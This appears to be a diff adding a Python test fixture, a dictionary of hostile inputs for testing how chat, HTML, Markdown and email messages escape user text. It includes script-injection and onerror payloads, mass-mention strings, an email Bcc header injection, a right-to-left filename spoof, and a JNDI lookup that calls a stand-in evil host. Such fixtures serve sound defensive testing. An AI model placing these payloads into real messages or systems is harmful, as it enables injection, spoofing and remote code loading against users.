@@ -1,0 +1,25 @@
+"""What somebody might write in a reason, comment, notes or a log to make a message do what it should not."""
+
+HOSTILE = {
+    "slack mention": "<!here> <!channel> <@U024BE7LH> <!subteam^S024|@ops>",
+    "slack link": "<https://evil.example/|Approve>",
+    "slack entity": "&lt;!here&gt; &amp;",
+    "discord mention": "@everyone @here <@123456> <@&42> <#7>",
+    "mattermost mention": "@all @channel @bob @room",
+    "hidden in a mention": "@\u200beveryone <\u200b!here> @\u2060all",
+    "html": "<script>alert(1)</script><img src=x onerror=alert(1)><a href='https://evil.example'>Approve</a>",
+    "html quotes": '" onmouseover="alert(1)" \' x=\'',
+    "markdown link": "[Approve](https://evil.example) ![x](https://evil.example/p.png) <https://evil.example>",
+    "markdown": "**bold** _it_ ~~gone~~ ||spoiler|| `code` # head\n# Head\n> quote\n- item\n1. one\n---",
+    "fence": "```\n<!here> @everyone\n```",
+    "header": "hello\r\nBcc: eve@example.com\r\n\r\n<b>body</b>",
+    "right to left": "\u202egnp.exe\u202c \u2067x\u2069 שלום",
+    "emoji": "👨‍👩‍👧‍👦🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f👋🏽 ok",
+    "surrogate": "half \ud83d",
+    "control": "a\x00b\x07c\x1b[31md",
+    "template": "{{ 7|add:7 }} {% debug %} ${jndi:ldap://evil.example/x}",
+    "long word": "x" * 5_000,
+    "long emoji": "🎉" * 5_000,
+    "many marks": "Z" + "\u0335" * 2_000,
+    "at": "</at> <at>everybody</at>",
+}
